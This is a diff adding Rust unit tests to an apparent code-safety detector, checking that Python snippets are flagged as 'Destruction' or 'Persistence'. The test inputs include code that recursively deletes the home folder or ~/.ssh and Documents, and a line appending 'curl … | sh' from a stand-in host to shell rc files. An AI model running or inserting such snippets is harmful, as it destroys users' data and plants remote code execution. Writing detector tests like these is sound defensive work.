@@ -952,3 +952,28 @@ fn loop_over_secret_variable_names_reads_secrets() {
         "{d:?}"
     );
 }
+
+#[test]
+fn removing_the_users_folders_is_destruction() {
+    for src in [
+        "import os, shutil\nhome = os.path.expanduser('~')\nfor rel in ('.cache', 'Documents', '.ssh'):\n    shutil.rmtree(os.path.join(home, rel), ignore_errors=True)\n",
+        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home(), ignore_errors=True)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(|x| x.starts_with("Destruction")),
+            "{src}: {d:?}"
+        );
+    }
+    // Cleaning a cache or a build folder is housekeeping.
+    let src = "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/demo'), ignore_errors=True)\nshutil.rmtree('build')\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("Destruction")), "{d:?}");
+}
+
+#[test]
+fn comprehension_over_shell_rc_files_appends_to_them() {
+    let src = "import os\nline = '\\ncurl -s http://rc.invalid/r | sh\\n'\n[open(p, 'a').write(line) for p in (os.path.expanduser('~/.bashrc'), os.path.expanduser('~/.zshrc')) if os.path.exists(p)]\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("Persistence")), "{d:?}");
+}
